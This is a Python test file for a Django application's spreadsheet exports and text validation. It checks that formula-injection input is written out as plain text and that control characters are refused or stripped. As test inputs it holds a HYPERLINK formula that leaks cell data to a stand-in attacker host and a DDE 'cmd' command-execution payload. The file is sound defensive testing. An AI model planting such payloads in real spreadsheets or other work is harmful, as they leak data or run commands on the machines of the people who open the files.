"""Text that attacks a spreadsheet or breaks an export: formulas and control characters.

A post titled ``=HYPERLINK(…)`` (through the API or an import) reaches every export as a text
cell, never a formula; text input refuses control characters; a control character already stored
never makes an export fail.
"""

import io

import openpyxl
import pytest
from django.urls import reverse

from gongyi.excel import Sheet, xlsx_bytes
from gongyi.text import control_character_error
from people.models import Person
from posts.imports import post_import_check, post_import_commit
from posts.models import Post
from tests.factories import PersonFactory, PostFactory
from tests.posts.test_imports import row, xlsx

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
POSTS = "/api/v1/posts/"


def cells(response_or_bytes, row_number: int) -> list:
    data = getattr(response_or_bytes, "content", response_or_bytes)
    return list(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0][row_number])


def title_cell(response):
    """The catalogue export's title cell of its one post."""
    assert response.status_code == 200
    return cells(response, 2)[1]


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
)
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    cell = cells(xlsx_bytes([Sheet("岗位", ["标题"], [[text, 3, "普通"]])]), 2)

    # XML reads a carriage return as a line break: still text.
    written = text.replace("\r", "\n")
    assert [(c.value, c.data_type) for c in cell] == [(written, "s"), (3, "n"), ("普通", "s")]
    assert cell[0].quotePrefix is True


def test_formula_title_from_the_api_is_exported_as_text(area, clerk, county, login, users):
    post = PostFactory(village=area.village, title="甲社区网格员")
    response = login(clerk).patch(
        f"{POSTS}{post.pk}/", {"title": ATTACK}, content_type="application/json"
    )
    assert response.status_code == 200

    cell = title_cell(login(county).get(reverse("post-list"), {"format": "xlsx"}))

    assert (cell.value, cell.data_type) == (ATTACK, "s")


def text_cells_xlsx(rows) -> bytes:
    """An import file whose cells are all text cells, as Excel keeps text typed after an
    apostrophe or in a column formatted as text (openpyxl would store "=…" as a formula)."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx(rows)))
    for line in workbook.active.iter_rows(min_row=2):
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_formula_title_from_an_import_is_exported_as_text(area, clerk, county, login):
    data = text_cells_xlsx([row(title=ATTACK)])
    assert post_import_check(actor=clerk, data=data).errors == []
    post_import_commit(actor=clerk, data=data)

    cell = title_cell(login(county).get(reverse("post-list"), {"format": "xlsx"}))

    assert (cell.value, cell.data_type) == (ATTACK, "s")


def test_patch_with_a_control_character_is_refused(area, clerk, login):
    post = PostFactory(village=area.village, title="甲社区网格员")

    response = login(clerk).patch(
        f"{POSTS}{post.pk}/", {"title": "甲社区\u0001网格员"}, content_type="application/json"
    )

    post.refresh_from_db()
    assert response.status_code == 400
    assert "控制字符" in response.json()["title"][0]
    assert post.title == "甲社区网格员"


def test_patch_with_lines_in_a_multi_line_field_is_accepted(area, clerk, login):
    post = PostFactory(village=area.village)

    response = login(clerk).patch(
        f"{POSTS}{post.pk}/", {"duties": "网格巡查\r\n\t信息采集"}, content_type="application/json"
    )
    refused = login(clerk).patch(
        f"{POSTS}{post.pk}/", {"title": "甲社区\n网格员"}, content_type="application/json"
    )

    post.refresh_from_db()
    assert (response.status_code, refused.status_code) == (200, 400)
    assert post.duties == "网格巡查\r\n\t信息采集"
    assert refused.json()["title"] == ["请在一行内填写，不要包含制表符或换行。"]


def test_form_with_a_control_character_is_refused(area, clerk, login):
    post = PostFactory(village=area.village, title="甲社区网格员", status="draft")
    Post.objects.filter(pk=post.pk).update(requirements="")

    response = login(clerk).post(
        reverse("post-edit", args=[post.pk]),
        {
            "post_type": post.post_type_id,
            "title": "甲社区\x1b网格员",
            "area_kind": "urban",
            "work_pattern": "full_time",
            "township": area.township.pk,
            "village": area.village.pk,
            "department": "civil_affairs",
            "duties": "网格巡查",
            "headcount": 2,
            "monthly_subsidy": "2100",
            "insurance_kind": "social_insurance_subsidy",
            "plan_year": 2026,
        },
    )

    post.refresh_from_db()
    assert response.status_code in (200, 400)
    assert "控制字符" in response.content.decode()
    assert post.title == "甲社区网格员"


def test_import_cell_with_a_control_character_is_reported(area, clerk):
    # The file's XML holds the character escaped, as Excel writes it (_x0007_).
    result = post_import_check(actor=clerk, data=xlsx([row(title="网格员_x0007_一")]))

    assert [(e.row, e.column) for e in result.errors] == [(2, "岗位名称")]
    assert "U+0007" in result.errors[0].message
    assert result.good == []


# PostgreSQL itself refuses U+0000 in text.
@pytest.mark.parametrize(
    ("value", "written"), [("甲\x01乙", "甲乙"), ("甲\x0b乙\x1f", "甲乙"), ("甲\x7f乙", "甲\x7f乙")]
)
def test_control_character_stored_in_the_database_does_not_break_the_export(
    area, county, login, value, written
):
    post = PostFactory(village=area.village)
    Post.objects.filter(pk=post.pk).update(title=value, duties=value)
    person = PersonFactory(village=area.village)
    Person.objects.filter(pk=person.pk).update(name=value, note=value)

    posts = login(county).get(reverse("post-list"), {"format": "xlsx"})
    people = login(county).get(reverse("person-list"), {"format": "xlsx"})

    assert (posts.status_code, people.status_code) == (200, 200)
    assert cells(posts, 2)[1].value == written
    assert cells(people, 2)  # a valid workbook


@pytest.mark.parametrize(
    ("text", "multiline", "refused"),
    [
        ("网格员", False, False),
        ("网格员\n", True, False),
        ("a\tb", True, False),
        ("a\tb", False, True),
        ("a\x85b", True, True),
        ("a\x7fb", False, True),
        ("a\u200bb", False, False),  # a zero-width space is a format character, not a control
    ],
)
def test_control_character_error(text, multiline, refused):
    assert (control_character_error(text, multiline=multiline) is not None) is refused


@pytest.mark.parametrize("url", ["/posts/", "/people/", "/api/v1/posts/", "/api/v1/people/"])
def test_query_with_a_control_character_is_refused_not_a_500(area, clerk, login, url):
    response = login(clerk).get(url, {"q": "王\x00"})

    assert response.status_code == 400
    assert "控制字符" in response.content.decode()


def test_plain_form_and_api_text_fields_refuse_control_characters_but_keep_lines():
    from django import forms
    from django.core.exceptions import ValidationError
    from rest_framework import serializers

    with pytest.raises(ValidationError):
        forms.CharField().clean("意见\x01")
    with pytest.raises(serializers.ValidationError):
        serializers.CharField().run_validation("意见\x01")
    assert forms.CharField().clean("第一行\r\n\t第二行") == "第一行\r\n\t第二行"
    assert serializers.CharField().run_validation("第一行\n第二行") == "第一行\n第二行"
